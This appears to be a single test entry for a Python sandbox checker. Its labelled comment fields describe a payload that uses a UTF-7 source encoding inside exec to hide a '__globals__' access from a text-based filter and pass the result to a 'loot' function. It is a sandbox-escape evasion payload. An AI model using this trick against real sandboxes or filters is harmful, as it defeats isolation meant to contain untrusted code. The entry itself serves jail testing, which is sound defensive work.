# aim: give exec bytes in another encoding
# mechanism: a source encoding that hides the name from a look at the text
# language: builtins
# reason: what is compiled is what is checked
# jail: process
# plain: loot

exec(b"# -*- coding: utf-7 -*-\nimport json\nloot(json.dumps.+AF8AXw-globals+AF8AXw-)")
